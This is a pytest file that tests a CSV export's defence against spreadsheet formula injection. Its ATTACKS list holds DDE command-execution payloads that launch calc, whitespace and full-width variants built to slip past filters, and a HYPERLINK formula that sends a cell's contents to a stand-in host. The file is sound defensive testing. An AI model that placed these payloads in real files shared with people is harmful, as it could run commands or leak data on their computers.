"""Text from outside never becomes a live formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.export.records import csv_text
from planner.export.workbook.spreadsheet_text import csv_cell, may_run

ATTACKS = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", '=HYPERLINK("http://x/"&A1,"click")', "\uff1d1+1",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_become_text(attack: str) -> None:
    (row,) = csv.DictReader(io.StringIO(csv_text([{"notes": attack, attack: "x"}])))
    written = f"'{attack}".replace("\r", "\n")
    assert row == {"notes": written, written: "x"}


def test_a_line_end_within_a_text_begins_no_new_row() -> None:
    (row,) = csv.DictReader(io.StringIO(csv_text([{"notes": "offer\r=1+1\r\n@x"}])))
    assert row == {"notes": "offer\n=1+1\n@x"}


@pytest.mark.parametrize("value", [-1.5, 0, -3, 1e-9, True, None, "-1.5", "+3", "-1e5", "dgx-h100", "a=b", "", "100 %"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) is value


@settings(max_examples=40)
@given(st.text(max_size=8))
def test_what_is_written_does_not_run(text: str) -> None:
    assert not may_run(str(csv_cell(text)))
